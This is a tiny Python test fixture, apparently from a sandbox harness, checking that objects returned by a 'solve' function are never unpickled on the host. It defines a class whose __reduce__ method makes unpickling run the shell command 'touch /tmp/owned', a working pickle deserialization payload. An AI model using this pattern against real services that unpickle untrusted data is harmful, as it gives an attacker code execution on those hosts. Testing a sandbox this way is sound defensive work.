#| family = "results"
#| why = "nothing is unpickled on the host"
#| call = "solve"
#| returned = false
#| kinds = ["exited"]
class Bomb:
    def __reduce__(self):
        return __import__("os").system, ("touch /tmp/owned",)
def solve():
    return Bomb()
